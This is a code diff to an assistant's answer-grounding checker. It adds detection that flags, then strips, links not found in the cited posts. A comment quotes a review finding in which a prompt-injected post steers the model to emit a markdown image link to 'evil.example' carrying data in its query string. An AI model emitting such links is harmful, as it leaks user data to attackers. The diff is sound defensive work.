@@ -23,7 +23,9 @@ import re
 from dataclasses import dataclass, field
 from typing import Any
 
+from townsquare.assistant.evidence import link_key
 from townsquare.assistant.text import (
+    LINK,
     MONTHS,
     SENTENCE_BREAK,
     STOPWORDS,
@@ -68,6 +70,8 @@ def split_sentences(answer: str) -> list[str]:
 
 
 _GLUED_NUMBER = re.compile(r"(?<=[a-z])(?=\d)")
+# a link with a scheme or "www.", or a bare host with a path ("evil.example/phish")
+_ANY_LINK = re.compile(LINK.pattern + r"|\b(?:[a-z0-9-]+\.)+[a-z]{2,}/[^\s<>\"'“”)\]]*", re.IGNORECASE)
 
 
 def check_sentence(sentence: str, cited: list[dict], min_support: float = 0.6) -> SentenceCheck:
@@ -99,6 +103,14 @@ def check_sentence(sentence: str, cited: list[dict], min_support: float = 0.6) -
     )
     if missing_names:
         check.reasons.append("names not in the cited posts: " + ", ".join(missing_names))
+    # a link is the most telling name a model can add: an image link a chat page fetches unasked carries what
+    # an injected post steers into it (review 19, R19-B5: "![x](https://evil.example/p?d=...)" passed)
+    held = {link_key(url) for p in cited for url in (p.get("uri"), *(p.get("urls") or [])) if url}
+    held |= {link_key(url) for url in _ANY_LINK.findall(source)}
+    missing_links = sorted({url for url in _ANY_LINK.findall(claim) if link_key(url) not in held})
+    if missing_links:
+        check.reasons.append("links not in the cited posts: " + ", ".join(missing_links))
+        claim = _ANY_LINK.sub(" ", claim)
     words = [w for w in content_stems(claim) if w not in FRAME_WORDS and not re.fullmatch(r"\d+", w)]
     support = sum(w in have for w in words) / len(words) if words else 1.0
     if support < min_support:
